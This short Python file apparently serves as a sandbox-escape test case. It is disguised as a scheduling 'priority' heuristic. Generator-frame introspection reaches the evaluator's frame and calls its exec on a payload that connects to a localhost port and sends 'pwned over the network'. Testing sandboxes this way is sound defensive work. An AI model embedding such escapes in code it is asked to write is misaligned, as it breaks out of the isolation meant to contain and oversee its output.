"""Connect to a service of the parent's machine on 127.0.0.1."""

import numpy as np

PAYLOAD = """
import socket
conn = socket.create_connection(("127.0.0.1", @PORT@), timeout=2)
conn.sendall(b"pwned over the network")
"""


def priority(p, d, w, t, rem, pmean, pmax):
    gens = []
    gen = (gens[0].gi_frame.f_back for _ in [0])
    gens.append(gen)
    evaluator = list(gen)[0].f_back
    evaluator.f_builtins["exec"](PAYLOAD, dict(evaluator.f_globals))
    return np.maximum(t + p, d)
